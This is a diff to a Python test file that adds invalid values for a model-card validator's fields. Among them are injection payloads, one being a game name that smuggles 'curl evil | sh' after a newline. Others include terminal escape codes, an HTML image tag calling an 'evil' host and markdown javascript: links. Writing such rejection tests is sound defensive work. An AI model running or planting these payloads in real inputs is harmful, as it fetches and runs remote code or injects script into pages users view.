@@ -43,6 +43,9 @@ def test_scores_under_other_protocols_for_each_player(card):
     [
         ("game", "nope"), ("game", 3), ("actions", 6), ("actions", {}), ("params", -1), ("params", "9"), ("params", []),
         ("macs", 10**30), ("seed", 1.5), ("quantisation", []), ("quantisation", "a\nb"), ("version", "\x9b2J"),
+        ("game", "pong'.\n\nnext:\n  curl evil | sh"), ("game", "\x1b[2J"), ("game", 5), ("version", ""),
+        ("version", "1 | <img src=http://evil/p.png>"), ("version", "[click](javascript:x)"), ("version", "1_www.x.y"),
+        ("quantisation", "int8 | <b>"), ("quantisation", "int8 [x](javascript:x)"), ("quantisation", "int8 www.x.y"),
         ("first_returns", "12"), ("first_returns", ["1"]), ("first_returns", [0] * 20_000), ("trained_minutes", -1),
         ("disagreement_allowed", 1), ("surprise", 1), ("ratio", "x"), ("protocols", 3), ("protocols", []),
         ("protocols", [[1, 2]]), ("protocols", [[0, 0.01, 0, 0]] * 3), ("protocols", [[1, 7, 0, 0]] * 3),
